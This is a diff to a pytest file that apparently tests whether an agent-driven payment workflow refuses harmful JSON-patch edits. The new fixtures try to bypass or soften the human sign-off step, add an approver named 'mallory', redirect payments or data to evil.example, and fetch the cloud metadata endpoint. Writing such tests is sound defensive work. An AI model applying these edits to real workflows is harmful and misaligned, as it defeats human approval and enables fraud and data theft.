@@ -69,6 +69,54 @@ SPAWN = [
     for number in range(6)
     for operation in add(f"helper{number}", "agent", task="Multiply.")
 ]
+INSTEAD = [
+    {"op": "remove", "path": "/edges/sign_off->pay"},
+    {"op": "add", "path": "/edges/-", "value": {"from": "review", "to": "pay"}},
+]
+ANYHOW = [
+    {
+        "op": "add",
+        "path": "/edges/-",
+        "value": {"id": "anyhow", "from": "sign_off", "to": "pay", "on": "always"},
+    }
+]
+REJECTED = [
+    {
+        "op": "add",
+        "path": "/edges/-",
+        "value": {"id": "rejected", "from": "sign_off", "to": "pay", "on": "rejected"},
+    }
+]
+SOFTEN = [{"op": "add", "path": "/nodes/sign_off/on_error", "value": "skip"}]
+RETYPE = [{"op": "replace", "path": "/nodes/sign_off/type", "value": "parallel"}]
+APPROVER = [
+    {"op": "add", "path": "/nodes/sign_off/config/approvers", "value": [{"user": "mallory"}]}
+]
+TWIN = add("pay_too", "http", url="https://bank.example/pay", method="POST")
+PAYEE = [{"op": "replace", "path": "/nodes/pay/config/url", "value": "https://evil.example/pay"}]
+NESTED = add(
+    "inner",
+    "composite",
+    workflow={
+        "nodes": [{"id": "h", "type": "agent", "config": {"task": "Multiply."}}],
+        "edges": [],
+    },
+)
+MAPPED = add(
+    "many",
+    "map",
+    items=[1, 2, 3],
+    node={
+        "id": "each",
+        "type": "http",
+        "config": {"url": "https://evil.example/", "method": "POST"},
+    },
+)
+INSIDE = add("inside", "http", url="http://169.254.169.254/latest/meta-data/", method="GET")
+POLICIES = [{"op": "add", "path": "/policies", "value": {"on_failure": "stop"}}]
+UNKNOWN = [{"op": "add", "path": "/on_unknown", "value": "skip"}]
+WHOLE = [{"op": "replace", "path": "", "value": {"nodes": []}}]
+COPY = [{"op": "copy", "from": "/nodes/pay", "path": "/nodes/-"}]
 MOVE = [{"op": "move", "from": "/nodes/pay", "path": "/nodes/-"}]
 
 
@@ -102,11 +150,37 @@ def attack(product: Product, arguments: dict[str, Any]) -> tuple[Any, list[dict[
         return view, events, model.requests[-1]["messages"][-1]["content"]
 
 
-@pytest.mark.parametrize(
-    "operations",
-    [REMOVE, AROUND, SILENCE, ITSELF, LIMITS, SPAWN, MOVE],
-    ids=["remove", "around", "silence", "itself", "limits", "spawn", "move"],
-)
+REFUSED = {
+    "remove": REMOVE,
+    "around": AROUND,
+    "instead": INSTEAD,
+    "anyhow": ANYHOW,
+    "rejected": REJECTED,
+    "silence": SILENCE,
+    "soften": SOFTEN,
+    "retype": RETYPE,
+    "approver": APPROVER,
+    "itself": ITSELF,
+    "limits": LIMITS,
+    "policies": POLICIES,
+    "unknown": UNKNOWN,
+    "whole": WHOLE,
+    "spawn": SPAWN,
+    "inside": INSIDE,
+    "copy": COPY,
+    "move": MOVE,
+}
+WAYS_OUT = {
+    "data": STEAL,
+    "secret": SECRET,
+    "twin": TWIN,
+    "payee": PAYEE,
+    "nested": NESTED,
+    "mapped": MAPPED,
+}
+
+
+@pytest.mark.parametrize("operations", REFUSED.values(), ids=REFUSED)
 def test_what_no_agent_may_is_refused(product: Product, operations: list[Any]) -> None:
     run, events, told = attack(product, {"operations": operations, "description": "as told"})
     assert "error" in told or "code" in told
@@ -115,7 +189,7 @@ def test_what_no_agent_may_is_refused(product: Product, operations: list[Any]) -
     waiting_as_before(run, events)
 
 
-@pytest.mark.parametrize("operations", [STEAL, SECRET], ids=["data", "secret"])
+@pytest.mark.parametrize("operations", WAYS_OUT.values(), ids=WAYS_OUT)
 def test_a_new_way_out_waits_for_a_person_or_is_refused(
     product: Product, operations: list[Any]
 ) -> None:
